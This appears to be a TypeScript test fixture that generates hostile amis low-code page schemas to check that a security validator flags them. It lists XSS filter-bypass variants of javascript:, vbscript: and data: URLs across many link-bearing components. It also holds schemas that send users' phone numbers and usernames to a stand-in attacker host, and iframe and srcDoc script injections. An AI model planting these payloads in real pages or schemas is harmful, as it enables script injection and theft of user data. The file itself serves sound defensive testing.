import { evil, hostile, hostileRoot, mark, type HostilePage } from './hostile-page';

/** Ways to write `javascript:` that a browser understands. */
const disguises: readonly [string, string][] = [
  ['plainly', `javascript:${mark}`],
  ['in mixed case', `JaVaScRiPt:${mark}`],
  ['with blanks before', ` \u0001 javascript:${mark}`],
  ['with a tab within', `java\tscript:${mark}`],
  ['with a line end within', `java\nscript:${mark}`],
  ['with a line end before the colon', `javascript\r\n:${mark}`],
  ['with entities', '&#106;avascript:alert(1)'],
  ['with padded entities', '&#0000000000106;avascript:alert(1)'],
  ['with hexadecimal entities', '&#x6A;avascript&colon;alert(1)'],
  ['with named entities', 'java&Tab;script&colon;alert(1)'],
  ['without a width', `java\u200bscript:${mark}`],
  ['as VBScript', 'vbscript:msgbox(1)'],
  ['put together', "${'java' + 'script:alert(1)'}"],
  ['put together by a function', "${CONCATENATE('java', 'script:alert(1)')}"],
  ['as a document', 'data:text/html,<b>x</b>'],
  ['as a coded document', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['as a document of XML', 'data:application/xhtml+xml,<html/>'],
  ['as a picture with scripts', 'data:image/svg+xml,%3Csvg/%3E'],
  ['as a script', 'data:application/javascript,alert(1)'],
];

/** Every place where amis accepts a URL. */
const places: readonly [string, (link: string) => object][] = [
  ['a link', (href) => ({ type: 'link', href, body: '看' })],
  ['an image that is a link', (href) => ({ type: 'image', src: '/x.png', href })],
  ['a link button', (link) => ({ type: 'button', label: '去', actionType: 'link', link })],
  ['an url button', (url) => ({ type: 'button', label: '去', actionType: 'url', url })],
  [
    'an url action',
    (url) => ({
      type: 'button',
      label: '去',
      onEvent: { click: { actions: [{ actionType: 'url', args: { url } }] } },
    }),
  ],
  [
    'a link action',
    (link) => ({
      type: 'button',
      label: '去',
      onEvent: { click: { actions: [{ actionType: 'link', args: { link } }] } },
    }),
  ],
  ['where a form leads', (redirect) => ({ type: 'form', body: [], redirect })],
  [
    'where an action leads',
    (redirect) => ({
      type: 'button',
      label: '去',
      actionType: 'ajax',
      api: '/api/admin/feedback/list',
      redirect,
    }),
  ],
  ['a navigation', (to) => ({ type: 'nav', links: [{ label: 'a', to }] })],
  ['a breadcrumb', (href) => ({ type: 'breadcrumb', items: [{ label: 'a', href }] })],
  ['a list of links', (link) => ({ type: 'grid-nav', options: [{ text: 'a', link }] })],
  [
    'a column',
    (href) => ({ type: 'crud', api: '/api/admin/feedback/list', columns: [{ type: 'link', href }] }),
  ],
  ['a card', (href) => ({ type: 'card', header: { title: 'a', href }, body: 'x' })],
  ['an HTML link', (link) => ({ type: 'tpl', tpl: `<a href="${link}">x</a>` })],
  ['an unquoted HTML link', (link) => ({ type: 'html', html: `<a href=${link}>x</a>` })],
  ['a marked-down link', (link) => ({ type: 'markdown', value: `[x](${link})` })],
];

/** Uses each disguise and each place at least once, but not every pair. */
const links = [
  ...disguises.map(([how, link]) =>
    hostile(`javascript: ${how}`, 'script/no-script-link', { type: 'link', href: link }),
  ),
  ...places.map(([where, make]) =>
    hostile(`javascript: in ${where}`, 'script/no-script-link', make(`javascript:${mark}`)),
  ),
  ...places
    .slice(0, 12)
    .map(([where, make], at) =>
      hostile(
        `disguised in ${where}`,
        'script/no-script-link',
        make(disguises[at % disguises.length]?.[1] ?? ''),
      ),
    ),
];

const leaks = [
  { type: 'link', href: `https://${evil}/?m=\${mobile}` },
  { type: 'link', href: `//${evil}/\${mobile}` },
  { type: 'link', href: `\\\\${evil}/\${mobile}` },
  { type: 'button', label: '去', actionType: 'url', url: `https://${evil}/?u=\${staff.username}` },
  { type: 'tpl', tpl: `<a href="https://${evil}/?m=\${mobile}">x</a>` },
  { type: 'image', src: `https://${evil}/\${mobile}.png` },
  { type: 'image', src: `https://${evil}/$mobile` },
  { type: 'link', href: `\${'https://${evil}/?m=' + mobile}` },
  { type: 'link', href: `\${CONCATENATE('https://${evil}/', mobile)}` },
  { type: 'link', href: `\${'https:' + '//' + '${evil}/' + mobile}` },
  { type: 'service', data: { to: `\${\`https://${evil}/\${mobile}\`}` }, body: 'x' },
  {
    type: 'button',
    label: '去',
    onEvent: {
      click: {
        actions: [{ actionType: 'url', args: { url: `https://${evil}`, params: { m: '${mobile}' } } }],
      },
    },
  },
].map((element, at) => hostile(`data sent to another host, ${at + 1}`, 'outside/data-to-foreign', element));

const charts = [
  { title: { text: 'x', link: `https://${evil}`, target: 'self' } },
  { title: { text: 'x', sublink: '/platform/x' } },
  { series: [{ type: 'treemap', nodeClick: 'link', data: [{ value: 1, link: '${url}', target: 'self' }] }] },
  { tooltip: { appendToBody: true, formatter: '登录已失效' } },
  { tooltip: { appendTo: 'body' } },
].map((config, at) =>
  hostile(`a chart that reaches out, ${at + 1}`, 'outside/chart-reach', { type: 'chart', config }),
);

const frames = [
  `https://${evil}/`,
  `//${evil}/`,
  `/\t/${evil}/`,
  '/\\evil.example',
  '${url}',
  '/${path}',
  'data:text/html,x',
  'javascript:alert(1)',
  '/#/platform/system/role',
  '/editor.html',
  '',
].map((src, at) => hostile(`a frame, ${at + 1}`, 'structure/unknown-type', { type: 'iframe', src }));

export const linkPages: readonly HostilePage[] = [
  ...links,
  ...leaks,
  ...charts,
  ...frames,
  hostile('a frame that brings its document', 'script/no-html-script', {
    type: 'iframe',
    src: '/x',
    srcDoc: `<script>${mark}</script>`,
  }),
  hostileRoot('javascript: where the page leads', 'script/no-script-link', {
    redirect: `javascript:${mark}`,
  }),
];
